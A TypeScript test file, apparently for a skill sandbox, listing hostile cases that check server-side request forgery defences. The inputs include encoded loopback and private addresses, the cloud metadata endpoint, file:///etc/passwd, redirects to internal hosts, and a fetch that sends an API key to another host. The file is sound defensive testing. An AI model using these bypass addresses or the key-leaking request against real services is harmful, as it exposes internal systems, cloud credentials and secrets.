/** A skill for any public web address, whose caller enters a hostile one, or whose code uses another parameter for more. */
import type { HostileCase, HostileClass } from '../hostile-case.ts'

const TO_URL = `return (await fetch(parameters.url)).status`
const INSIDE = /not on the public internet/

const inside: HostileCase[] = [
  ['this machine', 'http://127.0.0.1/'],
  ['this machine as a number', 'http://2130706433/'],
  ['this machine in hexadecimal', 'http://0x7f.1/'],
  ['this machine in full-width digits', 'http://１２７.0.0.1/'],
  ['this machine in IPv6', 'http://[::1]/'],
  ['this machine mapped into IPv6', 'http://[::ffff:127.0.0.1]/'],
  ['this machine by its name', 'http://localhost/'],
  ['a private network', 'http://10.0.0.1/'],
  ['a private network in IPv6', 'http://[fd00::1]/'],
  ['a metadata service', 'http://169.254.169.254/latest/meta-data/'],
  ['a name that leads to loopback', 'http://loop.example/'],
  ['a name that leads to a private network', 'http://private.example/'],
  ['a name that leads to a metadata service', 'http://metadata.example/'],
  ['a name with one good and one bad address', 'http://both.example/'],
].map(
  ([what = '', url = '']): HostileCase => ({
    name: `the entered address of ${what}`,
    body: TO_URL,
    entered: { url },
    ends: { throws: INSIDE },
  }),
)

const forms: HostileCase[] = [
  {
    name: 'an entered address with a user name that looks like a host',
    body: TO_URL,
    entered: { url: 'http://api.example@private.example/' },
    ends: { throws: /cannot carry a user name|not on the public internet/ },
  },
  {
    name: 'an entered address with credentials that look like a host, which is not opened',
    body: `return (await fetch('http://api.example:' + parameters.port + '/')).status`,
    entered: { url: 'http://api.example:80@other.example/' },
    ends: { throws: /does not declare the host api\.example/ },
  },
  ...[
    'file:///etc/passwd',
    'ftp://api.example/',
    'data:text/plain,a',
    'unix:/run/x',
    'ws://api.example/',
  ].map(
    (url): HostileCase => ({
      name: `an entered address of another scheme: ${url}`,
      body: `${TO_URL} + ' ' + (await fetch('http://api.example:' + parameters.port + '/')).status`,
      entered: { url },
      // An address that is no web address opens no host at all.
      ends: { throws: /./ },
    }),
  ),
  {
    name: 'an address of another scheme, which would open its host for web addresses',
    body: `return (await fetch('http://api.example:' + parameters.port + '/')).status`,
    entered: { url: 'ftp://api.example/' },
    ends: { throws: /does not declare any hosts/ },
  },
  {
    name: 'an entered wildcard',
    body: `return (await fetch('http://api.example:' + parameters.port + '/')).status`,
    entered: { url: 'http://*.example/' },
    ends: { throws: /does not declare/ },
  },
]

const others: HostileCase[] = [
  {
    name: 'an address in a parameter that is not one of them',
    body: `return (await fetch(parameters.link)).status`,
    entered: { url: 'http://other.example/', link: 'http://api.example/' },
    ends: { throws: /does not declare the host api\.example/ },
  },
  {
    name: 'an address in a text parameter',
    body: `return (await fetch(parameters.note)).status`,
    entered: { url: 'http://other.example/', note: 'http://api.example/' },
    ends: { throws: /does not declare the host api\.example/ },
  },
  {
    name: 'the parameter, changed by the code',
    body: `parameters.url = 'http://api.example/'; return (await fetch(parameters.url)).status`,
    entered: { url: 'http://other.example/' },
    ends: { throws: /does not declare the host api\.example/ },
  },
  {
    name: 'a subdomain of the entered host',
    body: `return (await fetch('http://api.example:' + parameters.port + '/')).status`,
    entered: { url: 'http://example/' },
    ends: { throws: /does not declare the host api\.example/ },
  },
]

const hop = (to: string) =>
  `return (await fetch('http://api.example:' + parameters.port + '/hop?to=' + encodeURIComponent(${to}))).status`

const redirects: HostileCase[] = [
  ['this machine', `'http://127.0.0.1:' + parameters.port + '/'`, INSIDE],
  [
    'a name that leads inside',
    `'http://loop.example:' + parameters.port + '/'`,
    /does not declare|not on the public/,
  ],
  ['a metadata service', `'http://169.254.169.254/'`, INSIDE],
  [
    'another public host',
    `'http://other.example:' + parameters.port + '/'`,
    /does not declare the host other\.example/,
  ],
].map(
  ([what, to, refusal]): HostileCase => ({
    name: `a redirect from the entered host to ${what}`,
    body: hop(String(to)),
    entered: { url: 'http://api.example/' },
    ends: { throws: refusal as RegExp },
  }),
)

const secrets: HostileCase[] = [
  {
    name: 'a secret in a request to the entered host, which is not one of the secret’s',
    body: `const answer = await fetch('http://other.example:' + parameters.port + '/?k=' + config.api_key, { headers: { authorization: config.api_key } }); return answer.status`,
    entered: { url: 'http://other.example/' },
    ends: { returns: 200 },
  },
]

export const URL_PARAMETERS: HostileClass = {
  name: 'any public web address',
  language: 'javascript',
  cases: [...inside, ...forms, ...others, ...redirects, ...secrets],
}
